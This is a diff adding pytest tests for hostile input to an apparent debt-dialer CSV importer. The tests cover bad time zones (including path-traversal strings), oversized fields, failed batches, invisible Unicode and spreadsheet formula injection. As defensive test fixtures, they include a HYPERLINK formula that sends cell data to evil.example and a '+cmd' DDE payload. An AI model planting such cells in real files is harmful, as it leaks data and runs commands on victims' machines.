@@ -4,8 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import date
+import json
+import sqlite3
+import tempfile
+import time
+import tracemalloc
+from datetime import UTC, date, datetime
 from pathlib import Path
+from typing import Any
 
 import phonenumbers
 import pytest
@@ -13,6 +19,9 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 import dialer.accounts as accounts
+import dialer.csvrecords as csvrecords
+import dialer.store as store_module
+from dialer import csvsafe
 from dialer.accounts import (
     AccountRecord,
     ImportFileError,
@@ -22,11 +31,16 @@ from dialer.accounts import (
     read_header,
     write_rejects,
 )
+from dialer.csvrecords import Record, read_records
+from dialer.errors import ImportFailedError
+from dialer.importing import import_accounts
+from dialer.store import Store
 
 DATA = Path(__file__).parent / "data"
 CN = ImportSettings(default_region="CN", default_currency="CNY", default_language="zh-CN")
 US = ImportSettings(default_region="US", default_currency="USD", default_language="en-US")
 HEADER = "account_id,name,phone,amount,currency,due_date\n"
+NOW = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
 
 
 def parse(path: Path, import_settings: ImportSettings = CN) -> list[AccountRecord | RejectedRow]:
@@ -428,3 +442,334 @@ def test_every_data_row_yields_exactly_one_result(tmp_path: Path, rows: list[lis
             assert next(csv.reader(io.StringIO(result.raw, newline=""))) == row
         else:
             assert result.account_id == row[0].strip()
+
+
+# ------------------------------------------------- hostile input (issue 9, items 4 and 11)
+
+ZONE_HEADER = "account_id,name,phone,time_zone,amount,currency,due_date\n"
+
+
+def zone_row(index: int, zone: str = "Asia/Shanghai") -> list[str]:
+    return [f"A{index}", f"Borrower {index}", f"139{index:08d}", zone, "10.00", "CNY", "2026-12-31"]
+
+
+def csv_file(path: Path, rows: list[list[str]], header: str = ZONE_HEADER) -> Path:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    path.write_text(header + out.getvalue(), encoding="utf-8")
+    return path
+
+
+def read_csv(path: Path) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize(
+    "zone",
+    [
+        "US",
+        "America",
+        "Asia",
+        "../etc",
+        "/etc/passwd",
+        "Z" * 256,
+        "Asia/Shang\x00hai",
+        "localtime",
+        "Factory",
+    ],
+)
+def test_a_zone_that_is_no_zone_is_a_reject_of_its_row_and_field(tmp_path: Path, zone: str) -> None:
+    rows = [zone_row(0), zone_row(1, zone), zone_row(2)]
+    results = parse(csv_file(tmp_path / "z.csv", rows))
+    assert [type(r) for r in results] == [AccountRecord, RejectedRow, AccountRecord]
+    reject = results[1]
+    assert isinstance(reject, RejectedRow) and reject.row_number == 3
+    assert reject.reason.startswith("time_zone: ") and "is not an IANA time zone" in reject.reason
+
+
+def test_a_library_error_on_a_value_is_a_reject_of_that_field(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def broken(value: str) -> date:
+        if value == "2026-01-02":
+            raise IsADirectoryError(21, "Is a directory")
+        return date(2026, 1, 1)
+
+    monkeypatch.setattr(accounts, "_parse_date", broken)
+    rows = [zone_row(0), [*zone_row(1)[:6], "2026-01-02"], zone_row(2)]
+    results = parse(csv_file(tmp_path / "d.csv", rows))
+    assert [type(r) for r in results] == [AccountRecord, RejectedRow, AccountRecord]
+    assert isinstance(results[1], RejectedRow)
+    assert results[1].reason == "due_date: cannot be read (IsADirectoryError)"
+
+
+# A bad zone after row 6,000 used to raise IsADirectoryError inside the import: 5,000 accounts
+# written, no chain event, the import record 0/0/0, no rejects file, the 1,100 rows after it lost.
+
+
+async def open_store(tmp_path: Path) -> Store:
+    return await Store.open(tmp_path / "t.db")
+
+
+def import_rows(db: Path) -> list[tuple[int, int, int, int]]:
+    with sqlite3.connect(db) as conn:
+        return conn.execute("SELECT rows, inserted, updated, rejected FROM imports").fetchall()
+
+
+def import_events(db: Path) -> list[tuple[str, dict[str, object]]]:
+    with sqlite3.connect(db) as conn:
+        found = conn.execute("SELECT kind, data FROM audit_events WHERE kind LIKE 'accounts.%' ORDER BY seq")
+        return [(kind, json.loads(data)) for kind, data in found]
+
+
+def account_ids(db: Path) -> set[str]:
+    with sqlite3.connect(db) as conn:
+        return {row[0] for row in conn.execute("SELECT account_id FROM accounts")}
+
+
+async def test_a_bad_zone_after_row_6000_is_one_reject_and_every_other_row_is_imported(
+    tmp_path: Path,
+) -> None:
+    source = csv_file(
+        tmp_path / "b.csv", [zone_row(i, "US" if i == 6000 else "Asia/Shanghai") for i in range(7101)]
+    )
+    rejects_file = tmp_path / "rejects.csv"
+    store = await open_store(tmp_path)
+    started = time.perf_counter()
+    try:
+        report = await import_accounts(store, source, CN, NOW, rejects_file)
+    finally:
+        await store.close()
+    assert time.perf_counter() - started < 20
+
+    assert (report.rows, report.inserted, report.updated, len(report.rejects)) == (7101, 7100, 0, 1)
+    assert import_rows(tmp_path / "t.db") == [(7101, 7100, 0, 1)]
+    ids = account_ids(tmp_path / "t.db")
+    assert len(ids) == 7100 and "A6000" not in ids and {"A5999", "A6001", "A7100"} <= ids
+    events = import_events(tmp_path / "t.db")
+    assert [kind for kind, _ in events] == ["accounts.import_batch"] * 2 + ["accounts.imported"]
+    assert [data["rows"] for _, data in events] == [5000, 2101, 7101]
+    assert events[-1][1] == {
+        "import_id": report.import_id, "file": str(source), "rows": 7101, "inserted": 7100, "updated": 0,
+        "rejected": 1,
+    }  # fmt: skip
+    header, row = read_csv(rejects_file)
+    assert header[:2] == ["row_number", "reason"]
+    assert row[:2] == ["6002", "time_zone: 'US' is not an IANA time zone (like Asia/Shanghai)"]
+    assert row[2:] == zone_row(6000, "US")
+
+
+async def test_a_failure_mid_import_leaves_whole_batches_and_is_reported_failed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    real_append = store_module.append_audit
+
+    async def failing_append(db: Any, events: Any, to_db: Any) -> None:
+        # Inside batch 2's transaction, after its accounts and rejects were written.
+        if any(e.kind == "accounts.import_batch" and e.data["batch"] == 2 for e in events):
+            raise sqlite3.OperationalError("disk I/O error (injected)")
+        await real_append(db, events, to_db)
+
+    monkeypatch.setattr(store_module, "append_audit", failing_append)
+    rows = [zone_row(i, "Asia" if i in (10, 6000) else "Asia/Shanghai") for i in range(7101)]
+    source = csv_file(tmp_path / "b.csv", rows)
+    store = await open_store(tmp_path)
+    try:
+        with pytest.raises(ImportFailedError, match=r"failed after 5000 rows.*disk I/O error \(injected\)"):
+            await import_accounts(store, source, CN, NOW, tmp_path / "rejects.csv")
+        assert await store.rejects(1) == [
+            (12, "time_zone: 'Asia' is not an IANA time zone (like Asia/Shanghai)")
+        ]
+    finally:
+        await store.close()
+
+    ids = account_ids(tmp_path / "t.db")
+    assert ids == {f"A{i}" for i in range(5000) if i != 10}  # batch 1 whole, nothing of batch 2
+    assert import_rows(tmp_path / "t.db") == [(5000, 4999, 0, 1)]  # what was committed, not 0/0/0
+    events = import_events(tmp_path / "t.db")
+    assert [kind for kind, _ in events] == ["accounts.import_batch", "accounts.import_failed"]
+    failed = events[1][1]
+    assert (failed["rows"], failed["inserted"], failed["rejected"]) == (5000, 4999, 1)
+    assert "disk I/O error (injected)" in str(failed["reason"])
+    assert not (tmp_path / "rejects.csv").exists()
+
+
+def test_a_field_over_128_kib_is_a_reject_naming_it_and_the_other_rows_are_read(tmp_path: Path) -> None:
+    long_name = "x" * 200_000
+    notes = "y" * 140_000
+    text = (
+        ZONE_HEADER.replace("\n", ",notes\n")
+        + ",".join(zone_row(0)) + ",ok\n"
+        + ",".join([*zone_row(1)[:1], long_name, *zone_row(1)[2:]]) + ",ok\n"
+        + ",".join(zone_row(2)) + f",{notes}\n"
+        + ",".join(zone_row(3)) + ",ok\n"
+    )  # fmt: skip
+    results = parse(write(tmp_path, text))
+    assert [type(r) for r in results] == [AccountRecord, RejectedRow, RejectedRow, AccountRecord]
+    assert isinstance(results[1], RejectedRow) and isinstance(results[2], RejectedRow)
+    assert (results[1].row_number, results[1].reason) == (3, "name: field longer than 131072 bytes")
+    assert (results[2].row_number, results[2].reason) == (
+        4,
+        "column 8 ('notes'): field longer than 131072 bytes",
+    )
+    assert len(results[1].raw) < 2000  # the rejects keep the start of the field, not all of it
+
+
+def test_a_quoted_field_over_128_kib_on_many_lines_is_a_reject(tmp_path: Path) -> None:
+    lines = "\n".join(["z" * 1000] * 200)
+    rows = [zone_row(0), [zone_row(1)[0], lines, *zone_row(1)[2:]], zone_row(2)]
+    results = parse(csv_file(tmp_path / "q.csv", rows))
+    assert [type(r) for r in results] == [AccountRecord, RejectedRow, AccountRecord]
+    assert isinstance(results[1], RejectedRow)
+    assert results[1].reason.startswith("name: field longer than 131072 bytes (this record spans lines 3-202")
+
+
+def test_a_huge_single_line_is_read_in_bounded_memory(tmp_path: Path) -> None:
+    path = tmp_path / "huge.csv"
+    with path.open("w", encoding="utf-8") as out:
+        out.write(ZONE_HEADER + ",".join(zone_row(0)) + "\nA1,")
+        for _ in range(48):
+            out.write("n" * (1 << 20))  # one 48 MiB line
+        out.write("\n" + ",".join(zone_row(2)) + "\n")
+    tracemalloc.start()
+    started = time.perf_counter()
+    try:
+        results = parse(path)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert time.perf_counter() - started < 10
+    assert peak < 24 << 20  # the whole line would be 48 MiB at least, several times over before
+    assert [type(r) for r in results] == [AccountRecord, RejectedRow, AccountRecord]  # and the next row
+    assert isinstance(results[1], RejectedRow)
+    assert results[1].reason == (
+        "row: longer than 1048576 bytes (only its start was read); name: field longer than 131072 bytes"
+    )
+    assert results[1].row_number == 3 and len(results[1].raw) < 2000
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    text=st.text(st.sampled_from(["a", ",", '"', "\n", "\r", " ", "é", "中"]), max_size=60),
+    piece=st.sampled_from([1, 2, 3, 64 << 10]),
+)
+def test_records_are_what_csv_reads_whatever_the_pieces(text: str, piece: int) -> None:
+    expected = []
+    reader = csv.reader(io.StringIO(text, newline=""))
+    start = 1
+    for fields in reader:
+        expected.append(Record(start, reader.line_num, fields))
+        start = reader.line_num + 1
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "t.csv"
+        path.write_text(text, encoding="utf-8", newline="")
+        with pytest.MonkeyPatch.context() as patch, path.open("rb") as handle:
+            patch.setattr(csvrecords, "_PIECE", piece)
+            try:
+                got = list(read_records(path, handle))
+            except ImportFileError as exc:
+                assert 'a quote (") is left open' in exc.message and '"' in text
+                return
+    assert got == expected
+
+
+def test_formula_cells_are_neutralised_in_the_rejects_file_and_restored_on_re_import(tmp_path: Path) -> None:
+    formula_name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    rows = [
+        ["@SUM(1+1)", formula_name, "13912345678", "Asia/Shanghai", "10.00", "CNY", "someday"],
+        ["A2", "+cmd|' /C calc'!A0", "+86 139-1234-5679", "", "-5", "CNY", "2026-12-31"],
+        ["A3", "\tTab", "+86 13912345670", "", "10.00", "CNY", "2026-1-1x"],
+    ]
+    source = csv_file(tmp_path / "f.csv", rows, ZONE_HEADER.replace("\n", ",=1+1\n"))
+    rejects = [r for r in parse(source) if isinstance(r, RejectedRow)]
+    assert len(rejects) == 3
+    out = tmp_path / "rejects.csv"
+    write_rejects(out, read_header(source), rejects)
+
+    written = read_csv(out)
+    assert written[0][-1] == "'=1+1"
+    assert written[1][2:4] == ["'@SUM(1+1)", "'" + formula_name]
+    assert written[2][3:7] == ["'+cmd|' /C calc'!A0", "'+86 139-1234-5679", "", "-5"]  # a number stays
+    assert written[3][3:5] == ["'\tTab", "+86 13912345670"]
+    for row in written:
+        assert all(cell[:1] not in ("=", "@", "\t", "\r") for cell in row)
+        assert all(cell[:1] not in ("+", "-") or cell[1:].replace(" ", "").isdigit() for cell in row)
+
+    again = [r for r in parse(out) if isinstance(r, RejectedRow)]  # read back: the lender's values
+    for reread, reject, row in zip(again, rejects, rows, strict=True):
+        assert next(csv.reader([reread.raw])) == [str(reject.row_number), reject.reason, *row, ""]
+
+
+def test_the_audit_export_and_the_rejects_file_share_one_formula_rule() -> None:
+    from audit.web import app
+
+    assert app.csvsafe is csvsafe
+    assert [csvsafe.cell(v) for v in ("=1", "@a", "+1 208 555 0101", "-5", "-1+2", "\rx", None, 3)] == [
+        "'=1", "'@a", "+1 208 555 0101", "-5", "'-1+2", "'\rx", "", "3",
+    ]  # fmt: skip
+    assert csvsafe.uncell("'=1") == "=1" and csvsafe.uncell("'abc") == "'abc"
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("A\u202e1", "U+202E RIGHT-TO-LEFT OVERRIDE"),
+        ("A\u20661", "U+2066 LEFT-TO-RIGHT ISOLATE"),
+        ("A\u200e1", "U+200E LEFT-TO-RIGHT MARK"),
+        ("A\u200b1", "U+200B ZERO WIDTH SPACE"),
+        ("A\u200d1", "U+200D ZERO WIDTH JOINER"),
+        ("\ufeffA1", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
+        ("A\u20601", "U+2060 WORD JOINER"),
+        ("A\x001", "U+0000 control character"),
+        ("A\x071", "U+0007 control character"),
+    ],
+)
+@pytest.mark.parametrize("column", ["account_id", "debt_id"])
+def test_invisible_characters_in_ids_are_a_reject_naming_the_field(
+    tmp_path: Path, value: str, shown: str, column: str
+) -> None:
+    header = "account_id,debt_id,name,phone,amount,currency,due_date\n"
+    ids = [value, "D1"] if column == "account_id" else ["A1", value]
+    rows = [[*ids, "Li", "13912345678", "10", "CNY", "2026-12-31"]]
+    (result,) = parse(csv_file(tmp_path / "i.csv", rows, header))
+    assert isinstance(result, RejectedRow)
+    assert result.reason == f"{column}: {value!r} contains {shown}, an invisible character"
+
+
+def test_look_alike_ids_cannot_make_a_second_account(tmp_path: Path) -> None:
+    rows = [
+        zone_row(1),
+        ["Ａ1", *zone_row(2)[1:]],
+        ["A\u200b1", *zone_row(3)[1:]],
+        ["A\u00a01", *zone_row(4)[1:]],
+    ]
+    results = parse(csv_file(tmp_path / "l.csv", rows))
+    assert [r.account_id for r in results if isinstance(r, AccountRecord)] == ["A1"]
+    reasons = [r.reason for r in results if isinstance(r, RejectedRow)]
+    assert reasons == [
+        "account_id: 'Ａ1' has full-width or other compatibility characters; write it as 'A1'",
+        "account_id: 'A\\u200b1' contains U+200B ZERO WIDTH SPACE, an invisible character",
+        "account_id: 'A\\xa01' has full-width or other compatibility characters; write it as 'A 1'",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("name", "problem"),
+    [
+        ("Li\u202eieW", "U+202E RIGHT-TO-LEFT OVERRIDE"),
+        ("\u200bLi Wei", "U+200B ZERO WIDTH SPACE"),
+        ("Li\ufeffWei", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
+        ("Li\x00Wei", "U+0000 control character"),
+        ("Li \u200c Wei", "U+200C ZERO WIDTH NON-JOINER"),  # a joiner joins nothing here
+    ],
+)
+def test_invisible_characters_in_names_are_a_reject(tmp_path: Path, name: str, problem: str) -> None:
+    (result,) = parse(csv_file(tmp_path / "n.csv", [[*zone_row(1)[:1], name, *zone_row(1)[2:]]]))
+    assert isinstance(result, RejectedRow)
+    assert result.reason == f"name: {name!r} contains {problem}, an invisible character"
+
+
+def test_joiners_inside_a_word_are_part_of_a_name(tmp_path: Path) -> None:
+    name = "علی\u200cرضا"  # Persian: ZWNJ is part of the spelling
+    (result,) = parse(csv_file(tmp_path / "p.csv", [[*zone_row(1)[:1], name, *zone_row(1)[2:]]]))
+    assert isinstance(result, AccountRecord) and result.name == name
